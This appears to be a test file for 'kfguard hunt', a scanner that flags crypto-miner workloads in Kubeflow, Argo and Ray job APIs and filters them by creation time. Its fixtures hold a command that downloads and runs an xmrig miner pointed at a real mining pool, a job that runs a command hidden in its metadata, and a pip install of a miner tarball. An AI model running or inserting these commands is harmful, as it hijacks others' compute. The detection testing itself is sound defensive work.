/**
 * `kfguard hunt --since`: each API dates its records its own way, and only records created at or
 * after the time are judged; undated records are judged, and what was left out is counted.
 * - KFP: `created_at`, an RFC 3339 string (google.protobuf.Timestamp through grpc-gateway), on
 *   v2beta1 runs and pipeline versions and on v1beta1 runs
 *   (../shared/schemas/kfp-api/v2beta1/run.swagger.json, v1beta1/run.swagger.json);
 * - Argo: `metadata.creationTimestamp` of each Workflow (Kubernetes ObjectMeta, RFC 3339);
 * - Ray: `start_time`, milliseconds since the epoch, in each JobDetails
 *   (https://docs.ray.io/en/latest/cluster/running-applications/job-submission/api.html).
 */
import assert from 'node:assert/strict';
import { after, describe, test } from 'node:test';
import { runCli } from '../helpers/cli.js';
import { argoRoutes } from '../../src/testing/fake-job-apis/argo.js';
import { kfpV1Routes, kfpV2Routes } from '../../src/testing/fake-job-apis/kfp.js';
import { rayJob, rayRoutes } from '../../src/testing/fake-job-apis/ray.js';
import { startFakeJobApi, type FakeJobApi } from '../../src/testing/fake-job-apis/server.js';

const MINER = 'wget -q http://198.51.100.9/x/xmrig -O /tmp/tf && chmod +x /tmp/tf && /tmp/tf -o stratum+tcp://pool.supportxmr.com:443 --donate-level 1';

const ir = (name: string) => ({
  pipelineInfo: { name },
  root: { dag: { tasks: { step: { taskInfo: { name: 'step' }, componentRef: { name: 'comp-step' } } } } },
  components: { 'comp-step': { executorLabel: 'exec-step' } },
  deploymentSpec: { executors: { 'exec-step': { container: { image: 'python:3.11', command: ['sh', '-c'], args: [MINER] } } } },
  schemaVersion: '2.1.0',
  sdkVersion: 'kfp-2.7.0',
});

const servers: FakeJobApi[] = [];
after(async () => Promise.all(servers.map((s) => s.close())));
async function serve(...args: Parameters<typeof startFakeJobApi>): Promise<FakeJobApi> {
  const server = await startFakeJobApi(...args);
  servers.push(server);
  return server;
}

type Report = { findings: { ruleId: string; origin: { id?: string; displayName?: string } }[]; extensions: { sourceStats: Record<string, number> } };
async function minersFound(args: readonly string[]): Promise<{ ids: string[]; stats: Record<string, number> }> {
  const run = await runCli(['hunt', ...args, '--format', 'json']);
  assert.ok(run.code === 0 || run.code === 1, run.stderr);
  const report = JSON.parse(run.stdout) as Report;
  const ids = report.findings.filter((f) => f.ruleId === 'crypto-miner-workload').map((f) => String(f.origin.id ?? f.origin.displayName));
  return { ids: ids.sort(), stats: report.extensions.sourceStats };
}

describe('kfguard hunt --since', () => {
  test('KFP v2beta1: runs and pipeline versions by created_at; a run without one is judged', async () => {
    const api = await serve(
      kfpV2Routes({
        pipelines: [{ pipeline_id: 'pl-1', display_name: 'p', created_at: '2025-11-01T00:00:00Z' }],
        versions: {
          'pl-1': [
            { pipeline_id: 'pl-1', pipeline_version_id: 'v-old', display_name: 'old', created_at: '2025-11-01T00:00:00Z', pipeline_spec: ir('old') },
            { pipeline_id: 'pl-1', pipeline_version_id: 'v-new', display_name: 'new', created_at: '2026-01-05T09:00:00Z', pipeline_spec: ir('new') },
          ],
        },
        runs: [
          { run_id: 'run-old', display_name: 'old', created_at: '2025-12-31T23:59:59Z', state: 'SUCCEEDED', pipeline_spec: ir('a') },
          { run_id: 'run-edge', display_name: 'edge', created_at: '2026-01-01T00:00:00Z', state: 'RUNNING', pipeline_spec: ir('b') },
          { run_id: 'run-undated', display_name: 'undated', state: 'RUNNING', pipeline_spec: ir('c') },
        ],
        recurringRuns: [],
        experiments: [],
      }),
    );
    const all = await minersFound(['--kfp', api.url]);
    assert.deepEqual(all.ids, ['run-edge', 'run-old', 'run-undated', 'v-new', 'v-old']);
    const recent = await minersFound(['--kfp', api.url, '--since', '2026-01-01T00:00:00Z']);
    assert.deepEqual(recent.ids, ['run-edge', 'run-undated', 'v-new']);
    assert.equal(recent.stats['kfp before --since'], 2);
  });

  test('KFP v1beta1: run created_at, with a fractional-second timestamp', async () => {
    const workflow = (name: string) => JSON.stringify({ apiVersion: 'argoproj.io/v1alpha1', kind: 'Workflow', metadata: { name }, spec: { entrypoint: 'main', templates: [{ name: 'main', container: { image: 'python:3.9', command: ['sh', '-c', MINER] } }] } });
    const api = await serve(
      kfpV1Routes({
        pipelines: [],
        runs: [
          { id: 'r-old', name: 'old', created_at: '2021-04-01T10:00:00Z', status: 'Succeeded', pipeline_spec: { workflow_manifest: workflow('old') } },
          { id: 'r-new', name: 'new', created_at: '2021-04-08T10:00:00.123456Z', status: 'Running', pipeline_spec: { workflow_manifest: workflow('new') } },
        ],
        jobs: [],
        experiments: [],
      }),
    );
    assert.deepEqual((await minersFound(['--kfp', api.url, '--since', '2021-04-05'])).ids, ['r-new']);
  });

  test('Argo: workflows by metadata.creationTimestamp, an age (--since 24h) measured from now', async () => {
    const at = (hoursAgo: number): string => new Date(Date.now() - hoursAgo * 3_600_000).toISOString().replace(/\.\d+Z$/, 'Z');
    const workflow = (name: string, created: string) => ({
      metadata: { name, namespace: 'argo', uid: `uid-${name}`, creationTimestamp: created },
      spec: { entrypoint: 'main', templates: [{ name: 'main', container: { image: 'alpine:3.20', command: ['sh', '-c'], args: [MINER] } }] },
      status: { phase: 'Running' },
    });
    const api = await serve(argoRoutes({ workflows: [workflow('last-week', at(24 * 7)), workflow('an-hour-ago', at(1))], templates: [], cronWorkflows: [] }));
    assert.deepEqual((await minersFound(['--argo', api.url, '-n', 'argo'])).ids, ['uid-an-hour-ago', 'uid-last-week']);
    const recent = await minersFound(['--argo', api.url, '-n', 'argo', '--since', '24h']);
    assert.deepEqual(recent.ids, ['uid-an-hour-ago']);
    assert.equal(recent.stats['argo before --since'], 1);
  });

  test('Ray: jobs by start_time in milliseconds; a job with start_time 0 (never started) is judged', async () => {
    const api = await serve(
      rayRoutes([
        rayJob({ submission_id: 'raysubmit_old', entrypoint: MINER, start_time: Date.parse('2025-06-01T00:00:00Z') }),
        rayJob({ submission_id: 'raysubmit_new', entrypoint: MINER, start_time: Date.parse('2025-11-20T08:00:00Z') }),
        rayJob({ submission_id: 'raysubmit_pending', entrypoint: MINER, start_time: 0, status: 'PENDING' }),
      ]),
    );
    assert.deepEqual((await minersFound(['--ray', api.url, '--since', '2025-11-01T00:00:00Z'])).ids, ['raysubmit_new', 'raysubmit_pending']);
  });

  test('an invalid --since is a usage error naming the flag', async () => {
    const run = await runCli(['hunt', '--ray', 'http://127.0.0.1:9', '--since', 'yesterday']);
    assert.equal(run.code, 2);
    assert.match(run.stderr, /invalid --since "yesterday"/);
  });
});

describe('kfguard hunt --ray reads what a submission carries besides its entrypoint', () => {
  test('a payload staged in the job metadata and a miner pip-installed through runtime_env are found', async () => {
    const api = await serve(
      rayRoutes([
        rayJob({ submission_id: 'raysubmit_meta', entrypoint: 'python -c "import json,os; os.system(json.loads(os.environ[\'M\'])[\'cmd\'])"', metadata: { cmd: MINER } }),
        rayJob({ submission_id: 'raysubmit_pip', entrypoint: 'python run.py', runtime_env: { pip: ['numpy==2.0.0', 'https://198.51.100.9/xmrig-6.21.0-linux-static-x64.tar.gz'] } }),
        rayJob({ submission_id: 'raysubmit_ok', entrypoint: 'python train.py', metadata: { owner: 'team-a' }, runtime_env: { pip: ['torch==2.3.0'], env_vars: { OMP_NUM_THREADS: '4' } } }),
      ]),
    );
    assert.deepEqual((await minersFound(['--ray', api.url])).ids, ['raysubmit_meta', 'raysubmit_pip']);
  });
});
